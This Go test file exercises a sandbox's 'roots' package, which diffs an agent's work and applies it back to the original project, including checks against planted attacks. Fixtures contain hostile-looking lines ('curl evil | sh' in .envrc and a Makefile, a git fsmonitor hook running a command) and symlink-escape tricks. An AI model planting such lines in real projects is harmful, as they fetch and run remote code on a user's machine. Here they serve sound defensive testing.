package roots_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/cordon-run/cordon/harness"
	"github.com/cordon-run/cordon/internal/placeholder"
	"github.com/cordon-run/cordon/internal/testenv"
	"github.com/cordon-run/cordon/refusal"
	"github.com/cordon-run/cordon/roots"
)

func write(t *testing.T, dir, rel, content string, mode os.FileMode) {
	t.Helper()
	p := filepath.Join(dir, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(p, mode); err != nil {
		t.Fatal(err)
	}
}

func read(t *testing.T, p string) string {
	t.Helper()
	data, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(data)
}

// snapshot records every path below dir with its type, mode and content,
// so that a test can tell whether anything changed.
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.Walk(dir, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		v := info.Mode().String()
		switch {
		case info.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			v += " -> " + l
		case info.Mode().IsRegular():
			data, _ := os.ReadFile(p)
			v += " " + string(data)
		}
		out[rel] = v
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func sameSnapshot(t *testing.T, what string, a, b map[string]string) {
	t.Helper()
	for k, v := range a {
		if b[k] != v {
			t.Errorf("%s: %s was %q, is %q", what, k, v, b[k])
		}
	}
	for k := range b {
		if _, ok := a[k]; !ok {
			t.Errorf("%s: %s appeared", what, k)
		}
	}
}

func gitInit(t *testing.T, dir string) {
	t.Helper()
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "base"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
}

// origin makes a small project with harness state of its own.
func origin(t *testing.T) (string, harness.Config) {
	t.Helper()
	h := testenv.Harness(t)
	dir, _ := filepath.EvalSymlinks(t.TempDir())
	write(t, dir, "keep.txt", "unchanged\n", 0o644)
	write(t, dir, "edit.txt", "one\ntwo\nthree\n", 0o644)
	write(t, dir, "gone.txt", "to be deleted\n", 0o644)
	write(t, dir, "image.bin", "\x00\x01\x02binary", 0o644)
	write(t, dir, "run.sh", "#!/bin/sh\necho hi\n", 0o644)
	write(t, dir, "olddir/inner.txt", "inner\n", 0o644)
	write(t, dir, ".efferent/registry.json", "{}", 0o600)
	return dir, h
}

func TestRoundTrip(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	gitInit(t, orig)
	outside := filepath.Join(t.TempDir(), "outside.txt")
	write(t, filepath.Dir(outside), "outside.txt", "host file\n", 0o644)
	rs, err := roots.Open(h)
	if err != nil {
		t.Fatal(err)
	}
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(r.Path, h.RootsDir()) || r.Origin != orig {
		t.Fatalf("root %s of %s; want it in %s, of %s", r.Path, r.Origin, h.RootsDir(), orig)
	}
	if _, err := os.Stat(filepath.Join(r.Path, ".efferent")); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the origin's harness state was copied: %v", err)
	}
	if read(t, filepath.Join(r.Path, "edit.txt")) != "one\ntwo\nthree\n" {
		t.Fatal("the copy differs")
	}
	before := snapshot(t, orig)

	// The agent's work: a new file, an edit, a deletion, a binary
	// change, a mode change, a new directory, a removed one.
	write(t, r.Path, "new.txt", "brand new\n", 0o644)
	write(t, r.Path, "edit.txt", "one\nTWO\nthree\n", 0o644)
	os.Remove(filepath.Join(r.Path, "gone.txt"))
	write(t, r.Path, "image.bin", "\x00\x09\x02binary!", 0o644)
	os.Chmod(filepath.Join(r.Path, "run.sh"), 0o755)
	write(t, r.Path, "newdir/sub/file.txt", "deep\n", 0o640)
	os.RemoveAll(filepath.Join(r.Path, "olddir"))
	// ...and what an attacker plants: a write-later file, and a symlink
	// out of the origin.
	write(t, r.Path, ".envrc", "curl evil | sh\n", 0o644)
	if err := os.Symlink(outside, filepath.Join(r.Path, "escape")); err != nil {
		t.Fatal(err)
	}

	d, err := rs.Diff(r)
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[string]string{}
	for _, c := range d.Changes {
		kinds[c.Path] = c.Change
	}
	want := map[string]string{
		"new.txt": "added", "edit.txt": "modified", "gone.txt": "deleted", "image.bin": "modified",
		"run.sh": "mode", "newdir": "added", "newdir/sub": "added", "newdir/sub/file.txt": "added",
		"olddir": "deleted", "olddir/inner.txt": "deleted", ".envrc": "added", "escape": "added",
	}
	for p, k := range want {
		if kinds[p] != k {
			t.Errorf("diff: %s is %q; want %q (all: %v)", p, kinds[p], k, kinds)
		}
	}
	for _, s := range []string{"new file mode 100644", "deleted file mode 100644", "old mode 100644\nnew mode 100755",
		"Binary files a/image.bin and b/image.bin differ", "-two\n+TWO", "--- /dev/null\n+++ b/new.txt", "+brand new"} {
		if !strings.Contains(d.Unified, s) {
			t.Errorf("the unified diff lacks %q:\n%s", s, d.Unified)
		}
	}
	for _, c := range d.Changes {
		switch c.Path {
		case ".envrc":
			if c.WriteLater == "" || !c.Marked() {
				t.Errorf(".envrc is not marked write-later: %+v", c)
			}
		case "run.sh":
			if !c.Executable {
				t.Errorf("run.sh made executable is not marked: %+v", c)
			}
		}
	}

	// The symlink out is refused, and nothing changes.
	_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
	if !errors.Is(err, refusal.WriteLater) && !errors.Is(err, refusal.OutsideWorkspace) {
		t.Fatalf("apply with a planted .envrc and a symlink out = %v; want a refusal", err)
	}
	_, err = rs.Apply(ctx, r, roots.ApplyOptions{Paths: []string{".envrc", "escape"}})
	if !errors.Is(err, refusal.OutsideWorkspace) || !strings.Contains(err.Error(), "escape") {
		t.Errorf("apply of the symlink out = %v; want OutsideWorkspace naming it", err)
	}
	sameSnapshot(t, "origin after refused applies", before, snapshot(t, orig))
	if read(t, outside) != "host file\n" {
		t.Fatal("the host file changed")
	}
	os.Remove(filepath.Join(r.Path, "escape"))
	// Unnamed, the write-later path and the binary file the diff could
	// not show are left out (and said so); the rest goes.
	applied, err := rs.Apply(ctx, r, roots.ApplyOptions{})
	if err != nil {
		t.Fatal(err)
	}
	leftWhy := map[string]string{}
	for _, l := range applied.Left {
		leftWhy[l.Path] = l.Why
	}
	if !strings.Contains(leftWhy[".envrc"], "name it") || !strings.Contains(leftWhy["image.bin"], "binary") {
		t.Errorf("left out: %v; want .envrc and image.bin, each with why", leftWhy)
	}
	if len(applied.Applied) != 9 {
		t.Errorf("applied %d changes; want 9: %+v", len(applied.Applied), applied.Applied)
	}
	if _, err := os.Lstat(filepath.Join(orig, ".envrc")); err == nil {
		t.Fatal("the unnamed write-later .envrc reached the origin")
	}
	// Named, they go.
	if a, err := rs.Apply(ctx, r, roots.ApplyOptions{Paths: []string{"image.bin", ".envrc"}}); err != nil || len(a.Applied) != 2 {
		t.Fatalf("apply of the named ones: %v %+v", err, a)
	}
	if read(t, filepath.Join(orig, ".envrc")) != "curl evil | sh\n" {
		t.Fatal(".envrc, named, did not go")
	}
	got, wantTree := snapshot(t, orig), snapshot(t, r.Path)
	delete(got, ".efferent")
	delete(got, ".efferent/registry.json")
	for k := range got {
		if strings.HasPrefix(k, ".git") {
			delete(got, k)
		}
	}
	for k := range wantTree {
		if strings.HasPrefix(k, ".git") {
			delete(wantTree, k)
		}
	}
	delete(got, ".")
	delete(wantTree, ".")
	sameSnapshot(t, "origin after apply (against the root)", wantTree, got)
	if read(t, filepath.Join(orig, ".efferent/registry.json")) != "{}" {
		t.Error("the origin's harness state changed")
	}
	if entries, _ := filepath.Glob(filepath.Join(orig, ".cordon-apply-*")); len(entries) > 0 {
		t.Errorf("apply left its staging behind: %v", entries)
	}
	// Applied, the root has nothing left to apply.
	if d, err := rs.Diff(r); err != nil || len(d.Changes) != 0 {
		t.Errorf("diff after apply: %v %+v", err, d)
	}
	if err := rs.Discard(ctx, r); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(r.Path); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("the discarded root is still there: %v", err)
	}
	if _, err := rs.Find(r.ID); !errors.Is(err, refusal.NotARoot) {
		t.Errorf("the discarded root is still found: %v", err)
	}
}

func TestApplyRefusesWhenTheOriginChanged(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	rs, _ := roots.Open(h)
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
	if err != nil {
		t.Fatal(err)
	}
	write(t, r.Path, "edit.txt", "the agent's\n", 0o644)
	write(t, r.Path, "new.txt", "the agent's new\n", 0o644)
	write(t, orig, "edit.txt", "the person's work\n", 0o644)
	write(t, orig, "new.txt", "the person's new\n", 0o644)
	before := snapshot(t, orig)
	_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
	if !errors.Is(err, refusal.OriginChanged) || !strings.Contains(err.Error(), "edit.txt") || !strings.Contains(err.Error(), "new.txt") {
		t.Fatalf("apply over changed origin = %v; want OriginChanged naming edit.txt and new.txt", err)
	}
	sameSnapshot(t, "origin after refused apply", before, snapshot(t, orig))
	d, _ := rs.Diff(r)
	if len(d.OriginChanged) != 2 {
		t.Errorf("origin changes = %v; want edit.txt and new.txt", d.OriginChanged)
	}
	// A change elsewhere still applies.
	write(t, r.Path, "keep.txt", "changed in the root\n", 0o644)
	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{Paths: []string{"keep.txt"}}); err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(orig, "keep.txt")) != "changed in the root\n" || read(t, filepath.Join(orig, "edit.txt")) != "the person's work\n" {
		t.Error("apply of keep.txt did not apply it alone")
	}
}

func TestApplyIsAllOrNothing(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	rs, _ := roots.Open(h)
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
	if err != nil {
		t.Fatal(err)
	}
	write(t, r.Path, "a-first.txt", "new\n", 0o644)
	write(t, r.Path, "edit.txt", "edited\n", 0o644)
	os.Remove(filepath.Join(r.Path, "gone.txt"))
	os.RemoveAll(filepath.Join(r.Path, "olddir"))
	write(t, r.Path, "newdir/x.txt", "x\n", 0o644)
	write(t, r.Path, "zz/late.txt", "late\n", 0o644)
	before := snapshot(t, orig)
	// A failure once a new file, a directory, an edit and two deletions
	// are in place: every one of them is undone.
	restore := roots.FailAt("zz/late.txt", errors.New("injected failure"))
	_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
	restore()
	if err == nil || !strings.Contains(err.Error(), "injected") {
		t.Fatalf("apply = %v; want the injected failure", err)
	}
	sameSnapshot(t, "origin after a failed apply", before, snapshot(t, orig))
	// Then it applies whole.
	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(orig, "zz/late.txt")) != "late\n" {
		t.Error("the second apply did not apply")
	}
}

func TestNotARoot(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	rs, _ := roots.Open(h)
	if _, err := rs.Find(orig); !errors.Is(err, refusal.NotARoot) {
		t.Errorf("Find of a plain directory = %v; want NotARoot", err)
	}
	// A directory in the roots directory with no record.
	fake := filepath.Join(h.RootsDir(), "fake-000000000000")
	os.MkdirAll(fake, 0o700)
	write(t, fake, "precious.txt", "keep me\n", 0o644)
	if _, err := rs.Find(fake); !errors.Is(err, refusal.NotARoot) {
		t.Errorf("Find of an unrecorded directory = %v; want NotARoot", err)
	}
	// A forged record: written by hand, not with the key.
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
	if err != nil {
		t.Fatal(err)
	}
	recFile := filepath.Join(h.StateDir(), "roots", r.ID+".json")
	var sealed map[string]json.RawMessage
	data, _ := os.ReadFile(recFile)
	json.Unmarshal(data, &sealed)
	forged := strings.Replace(string(sealed["record"]), r.Path, fake, 1)
	sealed["record"] = json.RawMessage(forged)
	out, _ := json.Marshal(sealed)
	forgedID := "fake-000000000000"
	os.WriteFile(filepath.Join(h.StateDir(), "roots", forgedID+".json"), out, 0o600)
	if _, err := rs.Find(fake); !errors.Is(err, refusal.UntrustedState) {
		t.Errorf("Find with a forged record = %v; want UntrustedState", err)
	}
	if read(t, filepath.Join(fake, "precious.txt")) != "keep me\n" {
		t.Error("the unrecorded directory was touched")
	}
}

func TestWorktreeRoot(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	os.RemoveAll(filepath.Join(orig, ".efferent"))
	gitInit(t, orig)
	rs, _ := roots.Open(h)
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig, Mode: roots.ModeWorktree})
	if err != nil {
		t.Fatal(err)
	}
	if r.Branch == "" || read(t, filepath.Join(r.Path, "edit.txt")) != "one\ntwo\nthree\n" {
		t.Fatalf("worktree root: %+v", r)
	}
	write(t, r.Path, "edit.txt", "worktree edit\n", 0o644)
	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{}); err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(orig, "edit.txt")) != "worktree edit\n" {
		t.Error("the worktree's change did not reach the origin")
	}
	if err := rs.Discard(ctx, r); err != nil {
		t.Fatal(err)
	}
	out, _ := exec.Command("git", "-C", orig, "worktree", "list").Output()
	if strings.Contains(string(out), r.Path) {
		t.Errorf("the worktree is still listed: %s", out)
	}
	if out, _ := exec.Command("git", "-C", orig, "branch", "--list", r.Branch).Output(); len(out) > 0 {
		t.Errorf("the root's branch is still there: %s", out)
	}
}

// TestApplyBindsToTheReview: with the reviewed diff's digest, apply
// refuses changes made after the review; and no apply happens while a
// run of the root holds its lock.
func TestApplyBindsToTheReview(t *testing.T) {
	ctx := context.Background()
	orig, h := origin(t)
	rs, _ := roots.Open(h)
	r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
	if err != nil {
		t.Fatal(err)
	}
	write(t, r.Path, "edit.txt", "reviewed\n", 0o644)
	d, err := rs.Diff(r)
	if err != nil {
		t.Fatal(err)
	}
	write(t, r.Path, "edit.txt", "changed after the review\n", 0o644)
	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{Digest: d.Digest}); !errors.Is(err, refusal.OriginChanged) || !strings.Contains(err.Error(), "reviewed") {
		t.Fatalf("apply with a stale digest = %v; want a refusal", err)
	}
	if read(t, filepath.Join(orig, "edit.txt")) != "one\ntwo\nthree\n" {
		t.Fatal("the origin changed")
	}
	run, err := placeholder.Begin(h.StateDir(), r.Path)
	if err != nil {
		t.Fatal(err)
	}
	_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
	run.End()
	if err == nil || !strings.Contains(err.Error(), "a run of it is going on") {
		t.Fatalf("apply during a run = %v; want a refusal", err)
	}
	d, _ = rs.Diff(r)
	if _, err := rs.Apply(ctx, r, roots.ApplyOptions{Digest: d.Digest}); err != nil {
		t.Fatal(err)
	}
	if read(t, filepath.Join(orig, "edit.txt")) != "changed after the review\n" {
		t.Fatal("the reviewed apply did not apply")
	}
}

// TestAttacksFromTheRoot: what an agent plants in a root never reaches
// past what apply promises (found by an attacker's review).
func TestAttacksFromTheRoot(t *testing.T) {
	ctx := context.Background()
	newRoot := func(t *testing.T) (string, harness.Config, *roots.Roots, *roots.Root) {
		orig, h := origin(t)
		gitInit(t, orig)
		rs, _ := roots.Open(h)
		r, err := rs.Create(ctx, roots.CreateOptions{From: orig})
		if err != nil {
			t.Fatal(err)
		}
		return orig, h, rs, r
	}
	t.Run("symlinks out through the tree's own links", func(t *testing.T) {
		orig, _, rs, r := newRoot(t)
		for _, l := range [][2]string{{".", "x"}, {"x/../secret", "l"}, {"..", "a/up"}, {"a/up/../secret", "l2"}, {".git/config", "cfg"}, {"olddir/../../x", "l3"}} {
			os.MkdirAll(filepath.Join(r.Path, filepath.Dir(l[1])), 0o755)
			if err := os.Symlink(l[0], filepath.Join(r.Path, l[1])); err != nil {
				t.Fatal(err)
			}
		}
		before := snapshot(t, orig)
		_, err := rs.Apply(ctx, r, roots.ApplyOptions{})
		for _, name := range []string{"l ->", "l2 ->", "cfg ->", "l3 ->"} {
			if !errors.Is(err, refusal.OutsideWorkspace) || !strings.Contains(err.Error(), name) {
				t.Errorf("apply = %v; want OutsideWorkspace naming %s", err, name)
			}
		}
		sameSnapshot(t, "origin", before, snapshot(t, orig))
	})
	t.Run("special and open modes", func(t *testing.T) {
		orig, _, rs, r := newRoot(t)
		os.Chmod(filepath.Join(r.Path, "run.sh"), 0o4755)
		write(t, r.Path, "shared.txt", "anyone\n", 0o666)
		os.Chmod(filepath.Join(r.Path, "shared.txt"), 0o666)
		a, err := rs.Apply(ctx, r, roots.ApplyOptions{})
		if err != nil {
			t.Fatal(err)
		}
		if st, _ := os.Stat(filepath.Join(orig, "run.sh")); st.Mode()&os.ModeSetuid != 0 || st.Mode().Perm() != 0o755 {
			t.Errorf("run.sh in the origin: %v; want 0755, no setuid", st.Mode())
		}
		if _, err := os.Stat(filepath.Join(orig, "shared.txt")); err == nil || len(a.Left) == 0 {
			t.Errorf("a world-writable file went back unnamed (left %+v)", a.Left)
		}
	})
	t.Run("a directory turned file over the person's new work", func(t *testing.T) {
		orig, _, rs, r := newRoot(t)
		write(t, orig, "olddir/new-work.txt", "mine\n", 0o644)
		os.RemoveAll(filepath.Join(r.Path, "olddir"))
		write(t, r.Path, "olddir", "a file now\n", 0o644)
		if _, err := rs.Apply(ctx, r, roots.ApplyOptions{}); !errors.Is(err, refusal.OriginChanged) || !strings.Contains(err.Error(), "new-work.txt") {
			t.Fatalf("apply = %v; want OriginChanged naming the new work", err)
		}
		if read(t, filepath.Join(orig, "olddir/new-work.txt")) != "mine\n" {
			t.Fatal("the person's new work is gone")
		}
	})
	t.Run("control characters", func(t *testing.T) {
		_, _, rs, r := newRoot(t)
		write(t, r.Path, "Makefile", "all:\n\tcurl evil | sh\n\x1b[1A\x1b[2K\n", 0o644)
		write(t, r.Path, "helper\x1b[2K\r", "x\n", 0o755)
		d, err := rs.Diff(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.ContainsRune(d.Unified, 0x1b) || !strings.Contains(d.Unified, `\x1b[1A`) || !strings.Contains(d.Unified, `helper\x1b[2K\x0d`) {
			t.Errorf("the diff shows raw escapes:\n%q", d.Unified)
		}
		for _, c := range d.Changes {
			if !c.Control {
				t.Errorf("%q is not marked for its control characters", c.Path)
			}
		}
	})
	t.Run("a nested repository", func(t *testing.T) {
		orig, _, rs, r := newRoot(t)
		write(t, r.Path, "vendor/lib/.git/config", "[core]\n\tfsmonitor = touch /tmp/PWNED\n", 0o644)
		write(t, r.Path, "vendor/lib/.GIT/hooks/post-checkout", "#!/bin/sh\n", 0o755)
		write(t, r.Path, "sub/.efferent/registry.json", "{}", 0o644)
		write(t, r.Path, "vendor/lib/code.go", "package lib\n", 0o644)
		a, err := rs.Apply(ctx, r, roots.ApplyOptions{})
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []string{"vendor/lib/.git", "vendor/lib/.GIT", "sub/.efferent"} {
			if _, err := os.Lstat(filepath.Join(orig, p)); err == nil {
				t.Errorf("%s reached the origin", p)
			}
		}
		if read(t, filepath.Join(orig, "vendor/lib/code.go")) != "package lib\n" || len(a.Left) < 3 {
			t.Errorf("applied %+v, left %+v", a.Applied, a.Left)
		}
	})
	t.Run("a run inside the root", func(t *testing.T) {
		orig, h, rs, r := newRoot(t)
		os.MkdirAll(filepath.Join(r.Path, "sub"), 0o755)
		write(t, r.Path, "edit.txt", "x\n", 0o644)
		run, err := placeholder.Begin(h.StateDir(), filepath.Join(r.Path, "sub"))
		if err != nil {
			t.Fatal(err)
		}
		_, err = rs.Apply(ctx, r, roots.ApplyOptions{})
		run.End()
		if err == nil || !strings.Contains(err.Error(), "is going on") {
			t.Fatalf("apply during a run in a subdirectory = %v; want a refusal", err)
		}
		if read(t, filepath.Join(orig, "edit.txt")) != "one\ntwo\nthree\n" {
			t.Fatal("the origin changed")
		}
	})
	t.Run("a FIFO swapped in", func(t *testing.T) {
		_, _, rs, r := newRoot(t)
		os.Remove(filepath.Join(r.Path, "keep.txt"))
		if err := unix.Mkfifo(filepath.Join(r.Path, "keep.txt"), 0o644); err != nil {
			t.Fatal(err)
		}
		done := make(chan error, 1)
		go func() { _, err := rs.Diff(r); done <- err }()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Fatal("diff blocks on a FIFO")
		}
	})
}
